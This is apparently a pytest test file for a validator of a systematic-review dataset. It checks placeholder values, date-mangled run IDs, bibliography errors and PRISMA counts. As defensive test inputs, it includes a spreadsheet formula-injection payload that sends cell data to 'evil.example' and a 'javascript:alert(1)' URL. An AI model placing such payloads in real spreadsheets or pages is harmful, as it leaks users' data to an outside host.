"""One mistake, one clear error naming its cause and, where it is obvious, the fix.

Each test breaks the invented dataset of ``tests/fixtures/minimal`` (two runs: ``2020``,
the "article's", and ``2022-03``, an update) in one way and checks the whole list of
problems, so that a follow-on error would fail the test too.
"""

from __future__ import annotations

import pytest

from tests.minimal import TEST, append, edit_rows, minimal_copy, problems, read_rows, set_cell, write_rows

LATER = "2022-03"


@pytest.fixture
def minimal(tmp_path):
    return minimal_copy(tmp_path / "minimal")


# -- cells ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["None", "NA", "N/A", "n/a", "-", "--", "n.d.", "null", "nan", "?", "unknown"])
def test_placeholders_for_unknown_values_are_rejected(minimal, value):
    set_cell(minimal, "studies.csv", 2, "setting", value)
    assert problems(minimal) == [
        f'data/studies.csv, row 2, column "setting": {value!r} stands for a missing value; '
        "leave it empty and say why in the source column ('not found: …' or 'not reported: …')"
    ]


def test_a_placeholder_that_is_an_allowed_value_is_a_value(minimal):
    set_cell(minimal, "studies.csv", 2, "lived_experience_coauthorship", "unknown")
    assert problems(minimal) == []


def test_a_stray_space_in_a_source_is_one_error(minimal):
    set_cell(minimal, "studies.csv", 2, "methods_source", " " + TEST)
    assert problems(minimal) == [
        f'data/studies.csv, row 2, column "methods_source": {" " + TEST!r} has leading or trailing spaces; delete them'
    ]


@pytest.mark.parametrize(
    "column, value", [("column", ""), ("column", "database"), ("stage", "included"), ("count", str(2**63))]
)
def test_a_bad_flow_cell_is_one_error(minimal, column, value):
    set_cell(minimal, "prisma_flow.csv", 5, column, value)
    found = problems(minimal)
    assert len(found) == 1 and found[0].startswith(f'data/prisma_flow.csv, row 5, column "{column}": '), found


def test_swapped_columns_give_errors_not_a_crash(minimal):
    edit_rows(
        minimal, "search_databases.csv", lambda rows: [rows[0]] + [[r[0], r[3], r[2], r[1], r[4]] for r in rows[1:]]
    )
    found = problems(minimal)
    assert found and all(p.startswith("data/search_databases.csv, row ") for p in found), found


@pytest.mark.parametrize(
    "raw, expected",
    [
        (
            b"theme_id,kind,parent_theme_id,position,name,name_source,placement_source,description,description_source\ntrai\x00ning,theme\n",
            "data/themes.csv, row 2: contains NUL bytes (invisible zero characters), so the file may be damaged",
        ),
        (
            "theme_id,kind\n".encode("utf-16-le"),
            "data/themes.csv, row 1: file looks like UTF-16 without a byte order mark",
        ),
        (
            b"theme_id,kind,parent_theme_id,position,name,name_source,placement_source,description,description_source\ntraining,the",
            "data/themes.csv, row 2: the file does not end with a line break, so it may have been cut off; check that row 2 is complete",
        ),
    ],
)
def test_damaged_files_say_what_happened(minimal, raw, expected):
    (minimal / "data" / "themes.csv").write_bytes(raw)
    [found] = problems(minimal)
    assert found.startswith(expected), found


def test_a_folder_in_place_of_a_file(minimal):
    (minimal / "data" / "themes.csv").unlink()
    (minimal / "data" / "themes.csv").mkdir()
    assert problems(minimal) == ["data/themes.csv: is a folder, not a file; datapackage.json lists it as a CSV file"]


# -- values a spreadsheet turned into dates ------------------------------------------------


def test_a_run_id_turned_into_a_date_is_one_message_per_file_and_column(minimal):
    for path in (minimal / "data").glob("*.csv"):
        if path.name != "search_runs.csv":
            write_rows(path, [[("Mar-22" if v == LATER else v) for v in row] for row in read_rows(path)])
    found = problems(minimal)
    assert [p.split(":")[0] for p in found] == [
        'data/findings.csv, row 4, column "search_run_id"',
        'data/prisma_exclusion_reasons.csv, row 5, column "search_run_id"',
        'data/prisma_flow.csv, row 17, column "search_run_id"',
        'data/reports.csv, row 6, column "first_search_run_id"',
        'data/search_databases.csv, row 4, column "search_run_id"',
        'data/studies.csv, row 4, column "first_search_run_id"',
    ]
    assert "rows 17, 18, 19, 20, 21, 22, 23, 24, 25, 26 and 5 more hold dates ('Mar-22')" in found[2]
    assert all(
        "a spreadsheet program turned what was typed into dates; 'Mar-22' was probably '2022-03'; "
        "format the column as Text" in p
        for p in found
    ), found


def test_dates_in_the_runs_own_file_give_no_follow_on_errors(minimal):
    set_cell(minimal, "search_runs.csv", 3, "search_run_id", "01/03/2022")
    set_cell(minimal, "search_runs.csv", 3, "date_end", "44621")
    found = problems(minimal)
    assert [p.split(":")[0] for p in found] == [
        'data/search_runs.csv, row 3, column "date_end"',
        'data/search_runs.csv, row 3, column "search_run_id"',
    ], found
    assert "where a year and month (YYYY-MM) belongs" in found[0]


# -- suggestions -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "file, row, column, typed, suggestion",
    [
        (
            "findings.csv",
            3,
            "theme_id",
            "Peer supervision",
            "did you mean 'peer-supervision'? (allowed: peer-supervision, support, training)",
        ),
        ("findings.csv", 3, "theme_id", "peer-supervison", "did you mean 'peer-supervision'?"),
        (
            "study_countries.csv",
            2,
            "country",
            "UK",
            "did you mean 'United Kingdom'? (see the book's page 'About the data'",
        ),
        (
            "studies.csv",
            2,
            "design",
            "Qualitative",
            "did you mean 'qualitative'? (allowed: qualitative, quantitative, mixed methods)",
        ),
        ("reports.csv", 3, "study_id", "alpha2018", "did you mean 'alpha2019'?"),
    ],
)
def test_a_near_miss_suggests_the_value_meant(minimal, file, row, column, typed, suggestion):
    set_cell(minimal, file, row, column, typed)
    found = problems(minimal)
    assert len(found) == 1 and found[0].startswith(f'data/{file}, row {row}, column "{column}": {typed!r} '), found
    assert suggestion in found[0], found


# -- the bibliography -----------------------------------------------------------------------------


def _bib(root, old, new):
    path = root / "references.bib"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.mark.parametrize(
    "old, new, expected",
    [
        (
            "year    = {2019}\n}",
            "year    = {2019}\n",
            "references.bib, line 3: entry 'alpha2019peer' is not closed before the entry on line 10",
        ),
        (
            "title   = {A test study of peer workers},",
            "title   = {A test study} of peer workers},",
            "references.bib, line 5: text outside any entry",
        ),
        (
            "@article{alpha2020more,",
            "@article{alpha2019peer,",
            "references.bib, line 10: key 'alpha2019peer' is used twice (first on line 3)",
        ),
    ],
)
def test_an_unreadable_bibliography_is_one_error_with_its_cause(minimal, old, new, expected):
    _bib(minimal, old, new)
    found = problems(minimal)
    assert len(found) == 1 and found[0].startswith(expected), found  # and not one "not a key" error per report


def test_a_bibliography_in_another_encoding(minimal):
    path = minimal / "references.bib"
    path.write_bytes(path.read_text(encoding="utf-8").encode("latin-1"))
    assert problems(minimal) == ["references.bib, line 11: file is not valid UTF-8 (byte 0xeb); save it as UTF-8"]


@pytest.mark.parametrize(
    "old, new, expected",
    [
        (
            "  journal = {Journal of Test Data},\n  year    = {2019}",
            "  year    = {2019}",
            "line 3, field \"journal\": @article entry 'alpha2019peer' needs this field",
        ),
        (
            "  publisher = {Test Press},\n",
            "",
            "line 17, field \"publisher\": @book entry 'beta2018work' needs this field",
        ),
        ("  author    = {Beta, D.},\n", "", 'line 17, field "author or editor": @book entry'),
        ("  institution = {Test Agency},\n", "", 'field "institution": @techreport entry'),
        ("year    = {2019}", "year    = {n.d.}", "field \"year\": 'n.d.' is not a four-digit year"),
        (
            "url         = {https://example.org/test}",
            "url         = {javascript:alert(1)}",
            "field \"url\": 'javascript:alert(1)' is not a web address; only http:// and https:// links are allowed",
        ),
        (
            "doi     = {10.0000/test.2021}",
            "doi     = {https://doi.org/10.0000/test.2021}",
            "field \"doi\": 'https://doi.org/10.0000/test.2021' is not a DOI",
        ),
        ("@book{", "@thesis{", "entry type @thesis is not supported by the bibliography style"),
    ],
)
def test_an_entry_the_bibliography_page_cannot_print(minimal, old, new, expected):
    _bib(minimal, old, new)
    found = problems(minimal)
    assert len(found) == 1 and found[0].startswith("references.bib, line ") and expected in found[0], found


def test_an_editor_instead_of_an_author_is_enough_for_a_book(minimal):
    _bib(minimal, "author    = {Beta, D.},", "editor    = {Beta, D.},")
    assert problems(minimal) == []


def test_a_key_that_could_break_out_of_a_citation(minimal):
    _bib(minimal, "@article{gamma2021team,", "@article{gamma2021`team`,")
    found = problems(minimal)
    assert (
        "references.bib, line 32: key 'gamma2021`team`' may only hold letters, digits and _ : . + -; "
        "no spaces, commas, quotes, backticks or braces" in found
    ), found


# -- search runs ------------------------------------------------------------------------------------

LATER_ROWS = [
    ("search_runs.csv", 3, "other_methods_source"),
    ("search_databases.csv", 4, "records_source"),
    ("prisma_flow.csv", 17, "source"),
    ("prisma_exclusion_reasons.csv", 5, "source"),
    ("studies.csv", 4, "methods_source"),
    ("study_countries.csv", 5, "source"),
    ("quality_appraisal.csv", 4, "mmat_rating_source"),
    ("reports.csv", 6, "source"),
    ("findings.csv", 4, "locator"),
]


@pytest.mark.parametrize("file, row, column", LATER_ROWS)
def test_a_later_runs_value_cannot_cite_the_article(minimal, file, row, column):
    set_cell(minimal, file, row, column, "article: Results")
    assert problems(minimal) == [
        f'data/{file}, row {row}, column "{column}": cites the article, but this row belongs to search run {LATER!r}; '
        "the article reports run '2020' only; write `extraction:` and where you found it"
    ]


def test_the_article_runs_values_can_cite_the_article(minimal):
    for file, _, column in LATER_ROWS:
        set_cell(minimal, file, 3 if file == "prisma_exclusion_reasons.csv" else 2, column, "article: Results")
    assert problems(minimal) == []


def test_the_article_run_is_the_earliest_by_end_date_then_id(minimal):
    set_cell(minimal, "search_runs.csv", 3, "date_start", "1990-01")
    set_cell(minimal, "search_runs.csv", 3, "date_end", "2020-06")  # the same end as run 2020: '2020' < '2022-03'
    set_cell(minimal, "studies.csv", 2, "methods_source", "article: Results")
    assert problems(minimal) == []
    set_cell(minimal, "search_runs.csv", 3, "date_end", "2019-01")  # now 2022-03 is the earliest
    assert any("belongs to search run '2020'; the article reports run '2022-03' only" in p for p in problems(minimal))


def test_a_run_needs_a_database_and_a_window_that_ends_after_it_starts(minimal):
    edit_rows(minimal, "search_databases.csv", lambda rows: rows[:3])
    set_cell(minimal, "search_runs.csv", 2, "date_start", "2021-01")
    assert problems(minimal) == [
        'data/search_runs.csv, row 2, column "date_end": the search window ends (2020-06) before it starts (2021-01)',
        "data/search_runs.csv, row 3, column \"search_run_id\": run '2022-03' has no database in data/search_databases.csv; "
        "add one row per database searched",
    ]


# -- the flow and its exclusion reasons ------------------------------------------------------------


def test_excluded_reports_cannot_exceed_those_assessed(minimal):
    set_cell(minimal, "prisma_flow.csv", 11, "count", "10")  # 2020 databases: 9 assessed
    assert (
        "data/prisma_flow.csv, row 11, column \"count\": run '2020', databases: 10 reports excluded but only 9 assessed"
        in problems(minimal)
    )


def test_reasons_either_listed_or_not_reported(minimal):
    append(minimal, "prisma_exclusion_reasons.csv", ["2020", "databases", "wrong setting", 7, TEST])
    assert problems(minimal) == [
        "data/prisma_exclusion_reasons.csv, row 2, column \"reason\": run '2020', databases: "
        "give either reasons or one row saying why they are not known, not both"
    ]


def test_a_column_with_excluded_reports_needs_its_reasons(minimal):
    edit_rows(minimal, "prisma_exclusion_reasons.csv", lambda rows: rows[:4])
    [found] = problems(minimal)
    assert found.startswith(
        "data/prisma_exclusion_reasons.csv: run '2022-03', databases: no row gives the reasons for "
        "excluding full-text reports; add one row per reason with its count, or one row with reason and count empty"
    )


def test_a_count_without_a_reason(minimal):
    set_cell(minimal, "prisma_exclusion_reasons.csv", 2, "count", "7")
    assert (
        'data/prisma_exclusion_reasons.csv, row 2, column "count": a count needs its reason; write the reason, or leave the count empty'
        in problems(minimal)
    )


# -- values the figures draw ---------------------------------------------------------------------------


def test_a_dollar_in_a_theme_name_is_drawn_as_text_without_mathtext(minimal):
    """'$' is valid; the figures must set text.parse_math=False (mathtext would fail on '$x^$')."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    set_cell(minimal, "themes.csv", 2, "name", "Training $x^$ and costs")
    assert problems(minimal) == []
    with matplotlib.rc_context({"text.parse_math": False}):
        fig, ax = plt.subplots()
        ax.set_xticks([0], ["Training $x^$ and costs"])
        fig.canvas.draw()
        plt.close(fig)


@pytest.mark.parametrize(
    "hidden",
    ["\x07", "\u202e", "\u2066", "\u00ad", "\u180e", "\u3164", "\u2062", "\ufe0f", "\U000e0041", "\u2800"],
)
def test_an_invisible_or_direction_changing_character_in_a_name(minimal, hidden):
    set_cell(minimal, "themes.csv", 2, "name", f"Train{hidden}ing")
    assert problems(minimal) == [
        f'data/themes.csv, row 2, column "name": {f"Train{hidden}ing"!r} contains an invisible or '
        f"direction-changing character (U+{ord(hidden):04X}); delete it"
    ]


def test_text_a_spreadsheet_would_run_as_a_formula(minimal):
    set_cell(minimal, "studies.csv", 2, "setting", '=HYPERLINK("http://evil.example/?"&A2)')
    [found] = problems(minimal)
    assert found.startswith('data/studies.csv, row 2, column "setting": ') and "as a formula" in found, found


def test_a_figure_type_that_fails_its_own_check_causes_no_follow_on_error(minimal):
    row = 1 + next(
        i for i, r in enumerate(read_rows(minimal / "data" / "published_figures.csv")) if r[0] == "design_qualitative"
    )
    set_cell(minimal, "published_figures.csv", row, "value_type", "2020")  # a swapped cell, as a spreadsheet may
    found = problems(minimal)
    assert len(found) == 1 and f'data/published_figures.csv, row {row}, column "value_type"' in found[0], found


def test_a_cell_too_long_is_refused_whatever_limit_another_library_set(minimal):
    """frictionless raises the csv module's field size limit for the whole process when it loads; the
    validator keeps its own."""
    import csv

    limit = csv.field_size_limit(10**9)  # as frictionless does
    try:
        set_cell(minimal, "studies.csv", 2, "setting", "x" * 140_000)
        found = problems(minimal)
    finally:
        csv.field_size_limit(limit)
    expected = 'data/studies.csv, row 2, column "setting": the cell is longer than 131,072 characters'
    assert any(p.startswith(expected) for p in found), found
